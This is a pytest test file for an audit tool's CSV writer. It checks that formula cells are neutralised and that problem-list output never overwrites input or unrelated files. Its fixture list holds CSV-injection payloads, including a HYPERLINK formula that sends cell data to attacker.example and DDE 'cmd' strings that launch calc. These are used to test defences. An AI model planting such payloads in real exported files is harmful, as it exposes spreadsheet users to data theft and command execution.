"""auditlib.publish.csvfiles and ``validate --problems-csv``: CSV written safely.

Formula cells are neutralised in every CSV the tool writes, and the problem list never
overwrites an input file or a file that is not an earlier problem list.
"""

from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import pandas as pd
import pytest

from auditlib.cli.main import main as cli_main
from auditlib.cli.validate import PROBLEMS_HEADER
from auditlib.publish import csvfiles

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo"

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?q="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(payload):
    assert csvfiles.neutralise_cell(payload) == "'" + payload


def test_ordinary_text_and_numbers_are_written_as_they_are(tmp_path):
    path = csvfiles.write_csv(
        tmp_path / "t.csv", ["team", "n", "share"], [["Team A", 3, -0.5], [None, 0, 1.25]]
    )
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert rows == [["team", "n", "share"], ["Team A", "3", "-0.5"], ["", "0", "1.25"]]


def test_a_frame_is_written_with_its_cells_neutralised(tmp_path):
    frame = pd.DataFrame({"team": ["=1+1", "North"], "n": [1, 2]})
    path = csvfiles.write_frame_csv(frame, tmp_path / "teams.csv")
    assert pd.read_csv(path)["team"].tolist() == ["'=1+1", "North"]


def _folder_with_formula_values(tmp_path: Path) -> Path:
    """The demo data with formula payloads as unknown labels, so validate reports them."""
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    audits = pd.read_csv(data / "audits.csv", dtype=str, keep_default_na=False)
    for row, payload in enumerate(PAYLOADS):
        audits.loc[row, "status"] = payload
    audits.to_csv(data / "audits.csv", index=False, lineterminator="\r\n")
    return data


def test_problems_csv_neutralises_formula_values(tmp_path):
    data = _folder_with_formula_values(tmp_path)
    out = tmp_path / "problems.csv"
    assert cli_main(["validate", "--data", str(data), "--problems-csv", str(out)]) == 1
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert tuple(rows[0]) == PROBLEMS_HEADER
    values = [row[4] for row in rows[1:] if row[3] == "status"]
    assert sorted(values) == sorted("'" + p for p in PAYLOADS)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _digest(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize(
    "name", ["audits.csv", "programme.yml", "recommendations.yml", "names.txt", "feedback.xlsx"]
)
def test_problems_csv_never_overwrites_or_creates_an_input_file(tmp_path, name, capsys):
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    before = _digest(data)
    code = cli_main(["validate", "--data", str(data), "--problems-csv", str(data / name)])
    assert code == 1
    assert "input file" in capsys.readouterr().err
    assert _digest(data) == before


def test_problems_csv_through_a_link_to_an_input_is_refused(tmp_path, capsys):
    data = tmp_path / "data"
    shutil.copytree(DEMO, data)
    link = tmp_path / "problems.csv"
    link.symlink_to(data / "audits.csv")
    before = _digest(data)
    assert cli_main(["validate", "--data", str(data), "--problems-csv", str(link)]) == 1
    assert _digest(data) == before


def test_problems_csv_never_overwrites_a_file_that_is_not_a_problem_list(tmp_path, capsys):
    mine = tmp_path / "budget.csv"
    mine.write_text("item,cost\nsoftware,100\n", encoding="utf-8")
    code = cli_main(["validate", "--data", str(DEMO), "--problems-csv", str(mine)])
    assert code == 1
    assert "not a problem list written by auditlib" in capsys.readouterr().err
    assert mine.read_text(encoding="utf-8") == "item,cost\nsoftware,100\n"


def test_an_earlier_problem_list_is_replaced(tmp_path):
    data = _folder_with_formula_values(tmp_path)
    out = tmp_path / "problems.csv"
    cli_main(["validate", "--data", str(data), "--problems-csv", str(out)])
    assert cli_main(["validate", "--data", str(DEMO), "--problems-csv", str(out)]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert tuple(rows[0]) == PROBLEMS_HEADER
    assert rows[1:] and {row[0] for row in rows[1:]} == {"warning"}  # the demo's warnings only


def test_a_csv_file_is_written_whole_with_the_csv_modules_line_endings(tmp_path):
    path = csvfiles.write_csv(tmp_path / "sub" / "t.csv", ["a", "b"], [["=1", "x"], [2, None]])
    assert path.read_bytes() == b"a,b\r\n'=1,x\r\n2,\r\n"
    assert path.stat().st_mode & 0o777 == 0o644
    assert [p.name for p in path.parent.iterdir()] == ["t.csv"]  # no temporary file left
